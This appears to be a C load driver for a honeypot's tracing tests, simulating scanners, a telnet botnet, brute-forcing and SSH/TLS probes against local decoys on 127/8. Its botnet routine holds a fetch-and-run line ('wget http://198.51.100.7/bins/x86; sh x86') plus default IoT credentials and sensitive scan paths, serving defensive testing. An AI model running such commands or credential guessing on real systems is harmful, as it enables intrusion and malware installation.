/* The load driver: plays attackers and users.
 *
 *   driver --dir DIR [--web NAME] [--ssh NAME] [--telnet NAME] [--tls NAME] [--once] [--pause-ms N]
 *
 * An intrusion is one trace, `driver.scenario`: a user watches the stream, an attacker probes a web
 * server and an SSH server, and when the profile is there the user opens it. Its trace id is
 * printed: "intrusion TRACE_ID ATTACKER_IP". --once plays one and ends.
 *
 * Between intrusions strangers come by who say nothing of a trace, as real ones do: what they cause
 * begins at the decoy. Each attacker has an address of his own in 127/8, which is all this machine.
 */
#include "common.h"
#include "ssh.h"
#include "tls_server.h"

#include <errno.h>
#include <getopt.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <pugmark/pugmark.h>

#define PATIENCE_MS 15000 /* for something to appear */

static uint16_t web_port, ssh_port, telnet_port, api_port;
static uint16_t tls_port; /* 0: there is no decoy that speaks it */

struct attacker {
    char ip[16];
    bool stranger; /* says nothing of the trace he is part of */
};

static struct attacker attacker_new(bool stranger)
{
    static unsigned n;
    unsigned id = n++ + (unsigned)getpid() * 251;
    struct attacker a = {.stranger = stranger};
    snprintf(a.ip, sizeof a.ip, "127.%u.%u.%u", 1 + id / 62500 % 250, 1 + id / 250 % 250,
             1 + id % 250);
    return a;
}

/* ---- carriers: inject puts its fields here ---- */

struct text {
    char bytes[1024];
    size_t len;
};

static void text_put(struct text *t, const char *part)
{
    size_t n = strlen(part);
    if (n < sizeof t->bytes - t->len) {
        memcpy(t->bytes + t->len, part, n + 1);
        t->len += n;
    }
}

static void carry_in_headers(void *headers, const char *name, const char *value)
{
    text_put(headers, name);
    text_put(headers, ": ");
    text_put(headers, value);
    text_put(headers, "\r\n");
}

/* A version string has at most 255 characters: the traceparent fits, a tracestate may not. */
static void carry_in_comment(void *banner, const char *name, const char *value)
{
    struct text *t = banner;
    if (t->len + strlen(name) + strlen(value) + 4 > 255)
        return;
    text_put(t, " ");
    text_put(t, name);
    text_put(t, "=");
    text_put(t, value);
}

/* ---- attacks ---- */

static void attack_http(const struct attacker *a, const char *method, const char *path,
                        const char *agent, const char *body)
{
    PUG_SPAN("driver.attack_http", PUG_KIND(PUG_KIND_CLIENT),
             PUG_STR("http.request.method", method), PUG_STR("url.path", path));
    struct text headers = {.len = 0};
    carry_in_headers(&headers, "User-Agent", agent);
    if (!a->stranger)
        pug_inject(NULL, carry_in_headers, &headers);
    struct http_call call = {
        .method = method, .path = path, .headers = headers.bytes, .body = body, .source_ip = a->ip};
    struct http_answer answer;
    if (http_call(web_port, &call, &answer) != 0) {
        pug_error(PUG_CURRENT, "no answer");
        return;
    }
    pug_set_int(PUG_CURRENT, "http.response.status_code", answer.status);
    free(answer.body);
}

static void attack_ssh(const struct attacker *a)
{
    PUG_SPAN("driver.attack_ssh", PUG_KIND(PUG_KIND_CLIENT));
    AUTO_CLOSE int fd = connect_loopback(a->ip, ssh_port, 5000);
    char version[256];
    ssize_t n = fd < 0 ? -1 : read(fd, version, sizeof version - 1);
    if (n <= 0) {
        pug_error(PUG_CURRENT, "no version string");
        return;
    }
    version[n] = '\0';
    version[strcspn(version, "\r\n")] = '\0';
    pug_set_str(PUG_CURRENT, "ssh.server_version", version);
    struct text banner = {.len = 0};
    text_put(&banner, ssh_client_profile.version);
    if (!a->stranger)
        pug_inject(NULL, carry_in_comment, &banner);
    text_put(&banner, "\r\n");
    uint8_t lists[SSH_PACKET_MAX];
    size_t lists_len = ssh_kexinit_build(&ssh_client_profile, lists, sizeof lists);
    if (write_all(fd, banner.bytes, banner.len) != 0 || write_all(fd, lists, lists_len) != 0)
        pug_error(PUG_CURRENT, strerror(errno));
    while (read(fd, version, sizeof version) > 0)
        ; /* until the server has had enough */
}

/* Twice, the second time with the session of the first, as browsers and robots do. */
static void attack_https(const struct attacker *a, const char *path)
{
    PUG_SPAN("driver.attack_https", PUG_KIND(PUG_KIND_CLIENT), PUG_STR("url.path", path));
    SSL_CTX *client = tls_client_new();
    SSL_SESSION *session = NULL;
    for (int i = 0; client && i < 2; i++) {
        char answer[1024];
        AUTO_CLOSE int fd = connect_loopback(a->ip, tls_port, 5000);
        SSL *tls = fd < 0 ? NULL : tls_connect(client, fd, "router.example", session);
        if (!tls) {
            pug_error(PUG_CURRENT, fd < 0 ? strerror(errno) : tls_error());
            break;
        }
        int n = snprintf(answer, sizeof answer, "GET %s HTTP/1.1\r\nUser-Agent: zgrab/0.x\r\n\r\n",
                         path);
        if (SSL_write(tls, answer, n) == n)
            while (SSL_read(tls, answer, sizeof answer) > 0)
                ;
        if (!session)
            session = SSL_get1_session(tls);
        tls_close(tls);
    }
    SSL_SESSION_free(session);
    SSL_CTX_free(client);
}

/* Commands of telnet (RFC 854, 1572). */
enum { IAC = 255, DO = 253, WONT = 252, WILL = 251, SB = 250, SE = 240, NEW_ENVIRON = 39 };

static void carry_in_environment(void *environment, const char *name, const char *value)
{
    struct text *t = environment;
    text_put(t, "\x03"); /* USERVAR */
    text_put(t, name);
    text_put(t, "\x01"); /* VALUE */
    text_put(t, value);
}

/* Reads up to a prompt, and tells the environment when asked for it. */
static bool telnet_expect(const struct attacker *a, int fd, const char *prompt)
{
    char seen[512];
    size_t n = 0, wanted = strlen(prompt);
    unsigned char c, verb;
    while (n < wanted || memcmp(seen + n - wanted, prompt, wanted) != 0) {
        if (read(fd, &c, 1) != 1)
            return false;
        if (c != IAC) {
            if (n == sizeof seen) { /* the end is enough */
                memmove(seen, seen + n - wanted, wanted);
                n = wanted;
            }
            seen[n++] = (char)c;
            continue;
        }
        if (read(fd, &verb, 1) != 1 || read(fd, &c, 1) != 1)
            return false;
        if (verb == DO) {
            bool will = c == NEW_ENVIRON && !a->stranger;
            write_all(fd, (unsigned char[]){IAC, will ? WILL : WONT, c}, 3);
        } else if (verb == SB && c == NEW_ENVIRON) {
            struct text t = {.len = 0};
            pug_inject(NULL, carry_in_environment, &t);
            write_all(fd, (unsigned char[]){IAC, SB, NEW_ENVIRON, 0 /* IS */}, 4);
            write_all(fd, t.bytes, t.len);
            write_all(fd, (unsigned char[]){IAC, SE}, 2);
            do { /* the rest of the question */
                verb = c;
                if (read(fd, &c, 1) != 1)
                    return false;
            } while (verb != IAC || c != SE);
        }
    }
    return true;
}

/* `commands` ends with NULL. */
static void attack_telnet(const struct attacker *a, const char *user, const char *password,
                          const char *const *commands)
{
    PUG_SPAN("driver.attack_telnet", PUG_KIND(PUG_KIND_CLIENT));
    AUTO_CLOSE int fd = connect_loopback(a->ip, telnet_port, 5000);
    if (fd < 0 || !telnet_expect(a, fd, "login: ") || dprintf(fd, "%s\r\n", user) < 0 ||
        !telnet_expect(a, fd, "Password: ") || dprintf(fd, "%s\r\n", password) < 0) {
        pug_error(PUG_CURRENT, "no login");
        return;
    }
    for (; *commands && telnet_expect(a, fd, "$ "); commands++)
        if (dprintf(fd, "%s\r\n", *commands) < 0)
            break;
    if (telnet_expect(a, fd, "$ "))
        dprintf(fd, "exit\r\n");
}

/* ---- the user ---- */

struct user {
    char token[128];
};

static void user_headers(const struct user *u, struct text *headers)
{
    if (*u->token) {
        text_put(headers, "Authorization: Bearer ");
        text_put(headers, u->token);
        text_put(headers, "\r\n");
    }
    pug_inject(NULL, carry_in_headers, headers);
}

/* The answer of 200, NULL otherwise. */
static json_t *user_asks(const struct user *u, const char *method, const char *path,
                         const char *body)
{
    PUG_SPAN("driver.api_request", PUG_KIND(PUG_KIND_CLIENT),
             PUG_STR("http.request.method", method), PUG_STR("url.path", path));
    struct text headers = {.len = 0};
    user_headers(u, &headers);
    struct http_call call = {
        .method = method, .path = path, .headers = headers.bytes, .body = body};
    struct http_answer answer;
    if (http_call(api_port, &call, &answer) != 0) {
        pug_error(PUG_CURRENT, "no answer");
        return NULL;
    }
    pug_set_int(PUG_CURRENT, "http.response.status_code", answer.status);
    json_t *json = answer.status == 200 ? json_loads(answer.body, 0, NULL) : NULL;
    if (!json)
        pug_error(PUG_CURRENT, "refused");
    free(answer.body);
    return json;
}

static bool user_login(struct user *u)
{
    AUTO_FREE char *password = file_read(run_path("admin-password").text, 100);
    if (!password)
        return false;
    json_t *body = json_pack("{s:s, s:s}", "username", "admin", "password", password);
    AUTO_FREE char *text = json_dumps(body, JSON_COMPACT);
    json_decref(body);
    json_t *answer = user_asks(u, "POST", "/auth/login", text);
    const char *token = json_string_value(json_object_get(answer, "token"));
    snprintf(u->token, sizeof u->token, "%s", token ? token : "");
    json_decref(answer);
    return *u->token;
}

/* A stream under way. It begins before the attack and ends after it, so its span has a handle. */
struct watch {
    struct pug_span span;
    struct text headers;
    int fd;
    char bytes[65536];
    size_t len;
};

static bool watch_read(struct watch *w)
{
    if (w->len == sizeof w->bytes - 1) { /* only the end is of interest */
        memmove(w->bytes, w->bytes + w->len / 2, w->len - w->len / 2);
        w->len -= w->len / 2;
    }
    ssize_t n = read(w->fd, w->bytes + w->len, sizeof w->bytes - 1 - w->len);
    w->len += n > 0 ? (size_t)n : 0;
    w->bytes[w->len] = '\0';
    return n > 0;
}

static bool watch_for(struct watch *w, const char *text)
{
    while (!strstr(w->bytes, text))
        if (!watch_read(w))
            return false;
    return true;
}

/* Comes back when the server listens to its database for us. */
static bool watch_begin(struct watch *w, const struct user *u)
{
    *w = (struct watch){.fd = -1};
    pug_span_start(&w->span, "driver.watch_stream", PUG_KIND(PUG_KIND_CLIENT),
                   PUG_STR("url.path", "/stream"));
    PUG_ATTACH(&w->span.context);
    user_headers(u, &w->headers);
    struct http_call call = {
        .method = "GET", .path = "/stream", .headers = w->headers.bytes, .timeout_ms = PATIENCE_MS};
    w->fd = http_open(api_port, &call);
    return w->fd >= 0 && watch_for(w, ": decoys");
}

static void watch_end(struct watch *w)
{
    close_quietly(&w->fd);
    pug_span_end(&w->span);
}

/* The attacker's id, once his profile and his way are known. */
static bool wait_for_profile(const struct user *u, const struct attacker *a, char uuid[33])
{
    char path[128];
    snprintf(path, sizeof path, "/attackers?ip=%s", a->ip);
    PUG_SPAN("driver.wait_for_profile");
    for (int waited = 0; waited < PATIENCE_MS && wait_for(-1, 250); waited += 250) {
        json_t *rows = user_asks(u, "GET", path, NULL);
        json_t *row = json_array_get(rows, 0);
        const char *id = json_string_value(json_object_get(row, "uuid"));
        bool there = id && json_integer_value(json_object_get(row, "correlated")) == 1 &&
                     json_is_object(json_object_get(row, "summary"));
        if (there)
            snprintf(uuid, 33, "%s", id);
        json_decref(rows);
        if (there)
            return true;
    }
    pug_error(PUG_CURRENT, "no profile in time");
    return false;
}

/* ---- scenarios ---- */

static bool intrusion(void)
{
    struct attacker a = attacker_new(false);
    struct user u = {.token = ""};
    struct watch w;
    char uuid[33], path[64], expected[64], trace_id[33];
    snprintf(expected, sizeof expected, "\"attacker_ip\":\"%s\"", a.ip);

    PUG_SPAN("driver.scenario", PUG_STR("attacker.ip", a.ip));
    struct pug_context here = pug_context_current();
    pug_trace_id_hex(&here, trace_id);

    if (!user_login(&u)) {
        pug_error(PUG_CURRENT, "the user could not log in");
        return false;
    }
    bool good = watch_begin(&w, &u);
    if (good) {
        attack_http(&a, "POST", "/login", "sqlmap/1.7.2#stable (https://sqlmap.org)",
                    "username=admin&password=admin123");
        attack_ssh(&a);
        good = watch_for(&w, expected);
    }
    watch_end(&w);
    good = good && wait_for_profile(&u, &a, uuid);
    if (good) {
        snprintf(path, sizeof path, "/attackers/%s", uuid);
        json_t *detail = user_asks(&u, "GET", path, NULL);
        good = json_object_get(json_object_get(detail, "behavior"), "class") &&
               json_object_get(json_object_get(detail, "traversal"), "path");
        json_decref(detail);
    }
    if (!good && stopping())
        return false;
    if (!good)
        pug_error(PUG_CURRENT, "the attack did not arrive");
    printf("%s %s %s\n", good ? "intrusion" : "failed", *trace_id ? trace_id : "-", a.ip);
    fflush(stdout);
    return good;
}

static void scan(void)
{
    static const char *const paths[] = {"/",          "/admin",    "/.env",        "/wp-login.php",
                                        "/.git/HEAD", "/cgi-bin/", "/api/v1/users"};
    struct attacker a = attacker_new(true);
    PUG_SPAN("driver.scan", PUG_STR("attacker.ip", a.ip));
    for (size_t i = 0; i < sizeof paths / sizeof *paths && !stopping(); i++)
        attack_http(&a, "GET", paths[i], "gobuster/3.6", NULL);
}

static void botnet(void)
{
    static const char *const commands[] = {"id", "uname -a",
                                           "wget http://198.51.100.7/bins/x86; sh x86", NULL};
    struct attacker a = attacker_new(true);
    PUG_SPAN("driver.botnet", PUG_STR("attacker.ip", a.ip));
    attack_telnet(&a, "root", "xc3511", commands);
}

static void brute_force(void)
{
    static const char *const passwords[] = {"admin",   "1234",  "password",
                                            "default", "12345", "root"};
    static const char *const commands[] = {NULL};
    struct attacker a = attacker_new(false);
    PUG_SPAN("driver.brute_force", PUG_STR("attacker.ip", a.ip));
    for (size_t i = 0; i < sizeof passwords / sizeof *passwords && !stopping(); i++)
        attack_telnet(&a, "admin", passwords[i], commands);
}

static void browse(void)
{
    static const char *const paths[] = {
        "/stats",  "/logs?limit=20",      "/logs/histogram?interval=10",
        "/bounty", "/attackers?limit=10", "/health"};
    PUG_SPAN("driver.browse");
    struct user u = {.token = ""};
    if (!user_login(&u)) {
        pug_error(PUG_CURRENT, "the user could not log in");
        return;
    }
    for (size_t i = 0; i < sizeof paths / sizeof *paths && !stopping(); i++)
        json_decref(user_asks(&u, "GET", paths[i], NULL));
}

/* A stranger who speaks TLS: something for the sniffer. */
static void tls_scan(void)
{
    struct attacker a = attacker_new(true);
    PUG_SPAN("driver.tls_scan", PUG_STR("attacker.ip", a.ip));
    if (tls_port)
        attack_https(&a, "/manager/html");
    else
        pug_event(PUG_CURRENT, "no decoy speaks TLS");
}

/* A user who runs the fleet, where there is an engine: another decoy, and another face for it. */
static void operate(void)
{
    PUG_SPAN("driver.operate");
    struct user u = {.token = ""};
    if (!user_login(&u)) {
        pug_error(PUG_CURRENT, "the user could not log in");
        return;
    }
    json_decref(user_asks(&u, "GET", "/config", NULL));
    if (access(run_path("engine.sock").text, F_OK) != 0)
        return;
    json_decref(user_asks(&u, "POST", "/fleet/deploy",
                          "{\"deckies\":[{\"name\":\"decky-01\",\"service\":\"http\"}]}"));
    json_decref(user_asks(&u, "POST", "/fleet/mutate-interval/decky-01", "{\"interval_s\":10}"));
    json_decref(user_asks(&u, "POST", "/fleet/mutate/decky-01", "{}"));
    json_decref(user_asks(&u, "GET", "/fleet/deckies", NULL));
}

int main(int argc, char **argv)
{
    static const struct option options[] = {{"dir", 1, NULL, 'd'},      {"web", 1, NULL, 'w'},
                                            {"ssh", 1, NULL, 's'},      {"telnet", 1, NULL, 't'},
                                            {"tls", 1, NULL, 'T'},      {"once", 0, NULL, 'o'},
                                            {"pause-ms", 1, NULL, 'p'}, {0}};
    const char *dir = NULL, *web = "web-01", *ssh = "ssh-01", *telnet = "telnet-01", *tls = NULL;
    bool once = false;
    int pause_ms = 1500;
    for (int c; (c = getopt_long(argc, argv, "", options, NULL)) != -1;) {
        switch (c) {
        case 'd':
            dir = optarg;
            break;
        case 'w':
            web = optarg;
            break;
        case 's':
            ssh = optarg;
            break;
        case 't':
            telnet = optarg;
            break;
        case 'T':
            tls = optarg;
            break;
        case 'o':
            once = true;
            break;
        case 'p':
            pause_ms = atoi(optarg);
            break;
        default:
            return 2;
        }
    }
    service_start("driver", dir);
    web_port = port_wait(web, PATIENCE_MS);
    ssh_port = port_wait(ssh, PATIENCE_MS);
    telnet_port = port_wait(telnet, PATIENCE_MS);
    api_port = port_wait("api", PATIENCE_MS);
    tls_port = tls ? port_wait(tls, PATIENCE_MS) : 0;
    if (!web_port || !ssh_port || !telnet_port || !api_port || (tls && !tls_port))
        die("the other programs do not run in this directory");

    static void (*const others[])(void) = {scan, tls_scan, browse, operate, botnet, brute_force};
    size_t n_others = sizeof others / sizeof *others;
    bool good = true;
    for (size_t i = 0; i == 0 || (!once && wait_for(-1, pause_ms)); i++) {
        if (i % 3 == 0)
            good = intrusion();
        else
            others[(i * 2 / 3) % n_others]();
    }
    service_stop();
    return once && !good;
}
